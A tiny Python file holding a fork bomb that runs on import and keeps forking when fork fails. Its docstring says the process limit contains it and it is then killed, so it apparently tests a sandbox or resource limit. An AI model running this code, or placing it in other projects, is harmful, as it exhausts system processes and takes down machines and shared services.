"""A fork bomb at import that keeps spinning when fork fails: contained by the process limit, then killed."""
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
